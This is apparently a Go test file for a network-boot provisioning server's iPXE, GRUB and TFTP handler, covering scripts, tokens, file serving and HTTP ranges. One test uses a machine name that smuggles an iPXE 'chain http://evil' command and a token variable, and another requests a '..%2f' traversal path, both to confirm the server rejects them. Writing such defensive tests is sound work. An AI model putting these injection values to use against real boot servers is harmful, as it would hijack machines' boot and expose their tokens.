package boot_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"sprout"
	"sprout/boot"
	"sprout/boot/tftp"
)

// A rack is a handler, what it told, and what it wrote to its log.
type rack struct {
	http.Handler
	tftp   tftp.Open
	files  string
	ledger *ledger
	events []string
	log    bytes.Buffer
	at     map[string]string // MACs by address; nil: all are behind a router
}

func handler(t *testing.T) *rack {
	t.Helper()
	return handlerOf(t, lon1())
}

func handlerOf(t *testing.T, l *ledger) *rack {
	t.Helper()
	files := t.TempDir()
	r := &rack{ledger: l, files: files}
	if err := os.Mkdir(filepath.Join(files, "arm64"), 0o700); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{"vmlinuz": "the kernel", "initrd": "the initrd", "snponly.efi": "the loader", "shim": "the shim", "grub": "the grub", "secret": "no",
		"arm64/vmlinuz": "the arm64 kernel", "arm64/initrd": "the arm64 initrd", "arm64/shimaa64.efi": "the arm64 shim", "arm64/grubaa64.efi": "the arm64 grub"} {
		if err := os.WriteFile(filepath.Join(files, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	config := boot.Config{
		Ledger: r.ledger, URL: "http://10.0.0.1:8080", Files: files, Loaders: files, Cmdline: "quiet",
		Shim: filepath.Join(files, "shim"), GRUB: filepath.Join(files, "grub"),
		Events: func(e sprout.BootEvent) { r.events = append(r.events, e.MAC+" "+e.What+" "+e.Detail) },
		Log:    slog.New(slog.NewTextHandler(&r.log, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Now:    func() time.Time { return now },
		Neighbour: func(_ context.Context, ip netip.Addr) (string, error) {
			if mac := r.at[ip.String()]; mac != "" || r.at == nil {
				return mac, nil
			}
			return "", errors.New("no host on the link answers for it")
		},
	}
	r.Handler, r.tftp = boot.Handler(config), boot.TFTP(t.Context(), config)
	return r
}

// do asks from an address, with names and values of headers, and returns what is answered.
func (r *rack) do(method, path, from string, header ...string) *httptest.ResponseRecorder {
	q := httptest.NewRequest(method, path, nil)
	q.RemoteAddr = from + ":40000"
	for i := 0; i+1 < len(header); i += 2 {
		q.Header.Set(header[i], header[i+1])
	}
	w := httptest.NewRecorder()
	r.ServeHTTP(w, q)
	return w
}

func TestScript(t *testing.T) {
	r := handler(t)
	for path, c := range map[string]struct {
		from   string
		status int
		has    []string
		not    string
	}{
		"/boot/52-54-00-00-00-01.ipxe": {"10.0.0.5", 200, []string{
			"#!ipxe\n", "echo Sprout: web-01 boots the ramdisk to deploy\n", "boot attempt att_1\n",
			"kernel http://10.0.0.1:8080/boot/" + digest("the kernel") + "/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
			"initrd --name initrd http://10.0.0.1:8080/boot/" + digest("the initrd") + "/initrd ||",
			"iseq ${buildarch} arm64 && goto arm64 ||",
			"kernel http://10.0.0.1:8080/boot/" + digest("the arm64 kernel") + "/arm64/vmlinuz initrd=initrd sprout.url=http://10.0.0.1:8080 sprout.token=TOKEN1 BOOTIF=01-52-54-00-00-00-01 ip=none panic=30 console=ttyS0 console=tty0 quiet ||",
			"initrd --name initrd http://10.0.0.1:8080/boot/" + digest("the arm64 initrd") + "/arm64/initrd ||",
			"chain --replace http://10.0.0.1:8080/boot/52-54-00-00-00-01.ipxe || goto again",
		}, "exit"},
		"/boot/52:54:00:00:00:01.ipxe": {"10.0.0.5", 200, []string{"TOKEN1"}, "exit"},
		"/boot/52-54-00-00-00-02.ipxe": {"10.0.0.101", 200, []string{"#!ipxe\n", "echo Sprout: db-01 has no boot intent", "exit 0", "exit 1"}, "token"},
		"/boot/52-54-00-00-00-09.ipxe": {"10.0.0.103", 200, []string{"sprout.token=TOKEN9", "to be discovered"}, "exit"},
		"/boot/52-54-00-00-00-0A.ipxe": {"10.0.0.103", 403, []string{"leased to " + stranger}, "token"},
		"/boot/52-54-00-00-00-03.ipxe": {"10.0.0.5", 403, nil, "token"},
		"/boot/52-54-00-00-00.ipxe":    {"10.0.0.5", 404, nil, "token"},
		"/boot/52-54-00-00-00-0g.ipxe": {"10.0.0.5", 404, nil, "token"},
		"/boot/52-54-00-00-00-01":      {"10.0.0.5", 404, nil, "token"},
	} {
		w := r.do("GET", path, c.from)
		if w.Code != c.status {
			t.Errorf("%s: status %d, want %d: %s", path, w.Code, c.status, w.Body)
		}
		for _, words := range c.has {
			if !strings.Contains(w.Body.String(), words) {
				t.Errorf("%s: no %q in\n%s", path, words, w.Body)
			}
		}
		if strings.Contains(w.Body.String(), c.not) {
			t.Errorf("%s: there should be no %q in\n%s", path, c.not, w.Body)
		}
	}
	if !slices.Equal(r.ledger.started, []string{stranger + " 10.0.0.103"}) {
		t.Errorf("discoveries started: %v", r.ledger.started)
	}
	if out := r.log.String() + strings.Join(r.events, "\n"); strings.Contains(out, "TOKEN") {
		t.Errorf("a token was logged:\n%s", out)
	}
	if !slices.Contains(r.events, web01+" http-script web-01 boots the ramdisk to deploy") {
		t.Errorf("events: %v", r.events)
	}
}

func TestScriptWithoutDiscovery(t *testing.T) {
	r := handler(t)
	r.ledger.startErr = errDiskFull
	w := r.do("GET", "/boot/52-54-00-00-00-09.ipxe", "10.0.0.103")
	if w.Code != 200 || !strings.Contains(w.Body.String(), "exit 1") || strings.Contains(w.Body.String(), "TOKEN") {
		t.Errorf("%d: %s", w.Code, w.Body)
	}
}

func TestNamesAreNoCommands(t *testing.T) {
	r := handler(t)
	r.ledger.known[web01] = sprout.SiteMachine{ID: "mch_1", Name: "x\nchain http://evil && ${token}"}
	w := r.do("GET", "/boot/52-54-00-00-00-01.ipxe", "10.0.0.5")
	said, _, _ := strings.Cut(w.Body.String(), ":again")
	if strings.Contains(said, "\nchain") || strings.Contains(said, "${") || strings.Contains(said, "&&") {
		t.Errorf("a name became a command:\n%s", w.Body)
	}
}

func TestFiles(t *testing.T) {
	r := handler(t)
	if w := r.do("GET", "/boot/arm64/vmlinuz", "10.0.0.101"); w.Code != 200 || w.Body.String() != "the arm64 kernel" {
		t.Errorf("kernel of arm64: %d %s", w.Code, w.Body)
	}
	r.events = nil
	if w := r.do("GET", "/boot/vmlinuz", "10.0.0.101"); w.Code != 200 || w.Body.String() != "the kernel" {
		t.Errorf("%d: %s", w.Code, w.Body)
	}
	if w := r.do("GET", "/boot/initrd", "10.0.0.101", "Range", "bytes=4-"); w.Code != 206 || w.Body.String() != "initrd" {
		t.Errorf("a range: %d: %s", w.Code, w.Body)
	}
	if w := r.do("HEAD", "/boot/snponly.efi", "10.0.0.101"); w.Code != 200 || w.Body.Len() != 0 || w.Header().Get("Content-Length") != "10" {
		t.Errorf("HEAD: %d, %v", w.Code, w.Header())
	}
	want := []string{db01 + " http-vmlinuz whole, in 0.0 s", db01 + " http-initrd 6 of 10 bytes, in 0.0 s"}
	if !slices.Equal(r.events, want) {
		t.Errorf("events %q, want %q: a HEAD is none", r.events, want)
	}
	for path, status := range map[string]int{
		"/boot/undionly.kpxe": 404, "/boot/secret": 404, "/boot/..%2fsecret": 404, "/boot/": 404, "/": 404, "/boot/vmlinuz/x": 404, "/boot/arm64/secret": 404, "/boot/arm64/": 404,
	} {
		if w := r.do("GET", path, "10.0.0.101"); w.Code != status {
			t.Errorf("%s: %d, want %d", path, w.Code, status)
		}
	}
	if w := r.do("POST", "/boot/vmlinuz", "10.0.0.101"); w.Code != 405 {
		t.Errorf("POST: %d", w.Code)
	}
}

// What a client has of a file it need not fetch again, and what it has of another
// version is of no use (RFC 9110, sections 13 and 14).
func TestRanges(t *testing.T) {
	r := handler(t)
	then := r.do("HEAD", "/boot/initrd", "10.0.0.101").Header().Get("Last-Modified")
	for name, c := range map[string]struct {
		header []string
		status int
		body   string
		where  string // Content-Range
	}{
		"the last bytes":  {[]string{"Range", "bytes=-3"}, 206, "trd", "bytes 7-9/10"},
		"up to the end":   {[]string{"Range", "bytes=4-99"}, 206, "initrd", "bytes 4-9/10"},
		"two pieces":      {[]string{"Range", "bytes=0-2,4-"}, 206, "Content-Range: bytes 4-9/10\r\nContent-Type: application/octet-stream\r\n\r\ninitrd\r\n", ""},
		"past the end":    {[]string{"Range", "bytes=10-"}, 416, "", "bytes */10"},
		"the same still":  {[]string{"Range", "bytes=4-", "If-Range", then}, 206, "initrd", "bytes 4-9/10"},
		"another version": {[]string{"Range", "bytes=4-", "If-Range", "Thu, 01 Jan 1970 00:00:00 GMT"}, 200, "the initrd", ""},
		"nothing new":     {[]string{"If-Modified-Since", then}, 304, "", ""},
	} {
		w := r.do("GET", "/boot/initrd", "10.0.0.101", c.header...)
		if w.Code != c.status || !strings.Contains(w.Body.String(), c.body) || w.Header().Get("Content-Range") != c.where {
			t.Errorf("%s: %d, %q: %q", name, w.Code, w.Header().Get("Content-Range"), w.Body)
		}
	}
}

// A machine that is to boot its disk is given back to its firmware, which has its
// own order: no script and no configuration of GRUB names a disk or another loader.
func TestTheDiskIsTheFirmwaresChoice(t *testing.T) {
	r := handler(t)
	script := r.do("GET", "/boot/52-54-00-00-00-02.ipxe", "10.0.0.101").Body.String()
	f, err := r.tftp("grub/grub.cfg", netip.MustParseAddr("10.0.0.101"))
	if err != nil {
		t.Fatal(err)
	}
	grub, err := io.ReadAll(io.NewSectionReader(f, 0, f.Size()))
	if err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"iPXE": script, "GRUB": string(grub)} {
		if !strings.Contains(text, "db-01 has no boot intent") {
			t.Errorf("%s is told:\n%s", name, text)
		}
		for _, word := range []string{"sanboot", "chain", "0x80", "hd0", "configfile", ".efi", "search", "boot\n", "linux"} {
			if strings.Contains(strings.ReplaceAll(text, "reboot\n", ""), word) {
				t.Errorf("%s is told %q:\n%s", name, word, text)
			}
		}
	}
}
